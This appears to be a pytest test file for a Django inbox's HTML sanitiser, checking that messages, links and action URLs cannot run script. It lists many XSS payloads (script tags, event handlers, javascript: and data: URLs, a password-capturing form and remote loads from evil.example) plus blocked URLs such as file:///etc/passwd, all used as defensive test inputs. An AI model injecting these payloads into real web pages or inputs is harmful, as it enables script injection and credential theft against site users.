"""Nothing in a message can act: not in its words, not in its links."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString

from dsn_core import Action
from dsn_inbox.models import InboxMessage
from dsn_inbox.sanitising import ATTRIBUTES, SCHEMES, TAGS, clean_html, is_safe_url
from tests.inbox.posting import post

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/seen.gif'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='/' onclick='alert(1)' style='position:fixed'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x'></object><embed src='x'><base href='//evil.example/'>",
    "<form action='https://evil.example/'><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<p id=dsn-inbox-title class=dsn-inbox-unread name=csrfmiddlewaretoken>x</p>",
    "</div></article><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<p dir=rtl onmouseover=alert(1)>x</p>",
    "<template><script>alert(1)</script></template>",
    "<a href='https://shop.example/' target=_top ping='https://evil.example/'>x</a>",
]


class Strict(HTMLParser):
    """Refuses every tag, attribute and scheme that is not allowed."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            if (tag, name) == ("a", "rel"):
                continue
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()), (tag, name)
            if name == "href":
                scheme = re.match(r"\s*([a-z0-9+.-]+):", value or "", re.IGNORECASE)
                assert scheme is None or scheme[1].lower() in SCHEMES, value

    def handle_comment(self, data):
        raise AssertionError(data)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_stays_in_the_html(attack):
    cleaned = clean_html(f"<p>before</p>{attack}<p>after</p>")
    Strict().feed(cleaned)
    assert "alert(1)" not in re.sub(r">[^<]*<", "><", f">{cleaned}<")
    assert cleaned.startswith("<p>before</p>")


def test_cleaning_twice_changes_nothing():
    for attack in ATTACKS:
        assert clean_html(clean_html(attack)) == clean_html(attack)


def test_what_is_harmless_stays():
    html = (
        '<h2>Paid</h2><p dir="auto">Order <b>7</b> &amp; <em>8</em></p>'
        '<ul><li>a</li></ul><table><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
    )
    assert clean_html(html) == html


def test_a_link_tells_nobody_where_it_was_followed():
    assert clean_html('<a href="https://shop.example/">x</a>') == (
        '<a href="https://shop.example/" rel="noopener noreferrer">x</a>'
    )


def test_a_tag_that_is_not_closed_is_closed():
    assert clean_html("<div><b>x") == "<div><b>x</b></div>"


@pytest.mark.parametrize(
    "url",
    [
        "https://shop.example/7/?a=1#b",
        "HTTP://shop.example",
        "/orders/7/",
        "/",
        "mailto:desk@shop.example?subject=7",
        "https://bücher.example/ä",
    ],
)
def test_a_link_may_lead_to_a_page_a_path_or_a_mailbox(url):
    assert is_safe_url(url)


@pytest.mark.parametrize(
    "url",
    [
        "",
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "java\nscript:alert(1)",
        " javascript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "file:///etc/passwd",
        "blob:https://shop.example/1",
        "//evil.example/",
        "/\\evil.example/",
        "\\\\evil.example",
        "https:",
        "https:evil.example",
        "https:///evil.example",
        "https://[evil",
        "mailto:",
        "orders/7/",
        "?a=1",
        "https://shop.example/ x",
        'https://shop.example/"onclick=',
    ],
)
def test_a_link_leads_nowhere_else(url):
    assert not is_safe_url(url)


@pytest.mark.django_db
class TestOnEveryPath:
    def test_save(self, ada):
        row = InboxMessage(user=ada, html="<script>x</script>a", actions=[_bad(), _good()])
        row.save()
        self._is_clean(row)
        row.html, row.actions = "<script>y</script>a", [_bad(), _good()]
        row.save()
        self._is_clean(row)

    def test_bulk_create(self, ada):
        (row,) = InboxMessage.objects.bulk_create(
            [InboxMessage(user=ada, html="<script>x</script>a", actions=[_bad(), _good()])]
        )
        self._is_clean(row)

    def test_update(self, ada):
        row = InboxMessage.objects.create(user=ada)
        InboxMessage.objects.update(html="<script>x</script>a", actions=[_bad(), _good()])
        self._is_clean(row)

    def test_bulk_update(self, ada):
        row = InboxMessage.objects.create(user=ada)
        row.html, row.actions = "<script>x</script>a", [_bad(), _good()]
        InboxMessage.objects.bulk_update([row], ["html", "actions"])
        self._is_clean(row)

    def _is_clean(self, row):
        row.refresh_from_db()
        assert (row.html, row.actions) == ("a", [_good()])


def _bad():
    return {"label": "x", "url": "javascript:alert(1)"}


def _good():
    return {"label": "y", "url": "/y/"}


@pytest.mark.django_db
def test_only_what_comes_from_the_table_is_taken_for_safe(ada):
    raw = InboxMessage(user=ada, html="<script>x</script>a")
    assert not isinstance(raw.html, SafeString)
    raw.save()
    assert isinstance(InboxMessage.objects.get().html, SafeString)


@pytest.mark.django_db
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_reaches_the_page(browser, ada, attack):
    post(
        ada,
        subject=attack,
        text=attack,
        html=attack,
        actions=(Action(label=attack, url="/x/"), Action(label="a", url="javascript:alert(1)")),
    )
    post(ada, subject=attack, text=attack)
    page = browser.get("/inbox/").content.decode()
    assert "<script" not in page.lower()
    seen = _Handlers()
    seen.feed(page)
    assert seen.found == []


class _Handlers(HTMLParser):
    """Finds on a whole page what acts, or looks other than the page wants."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        acting = {"script", "img", "iframe", "object", "embed", "svg", "math", "base", "style"}
        self.found += [tag] * (tag in acting)
        for name, value in attrs:
            bad = name.startswith("on") or name in {"style", "srcdoc", "ping", "formaction"}
            leads = name in {"href", "action", "src"} and re.match(
                r"\W*(javascript|data|vbscript)", value or "", re.IGNORECASE
            )
            self.found += [(tag, name, value)] * bool(bad or leads)


@pytest.mark.django_db
def test_an_action_of_an_odd_shape_is_left_out(ada):
    odd = ["x", None, {"label": "x"}, {"url": 7}, {"label": None, "url": "/ok/"}, {"url": "/ok/"}]
    InboxMessage.objects.create(user=ada, actions=odd)
    assert [action["url"] for action in InboxMessage.objects.get().actions] == ["/ok/", "/ok/"]
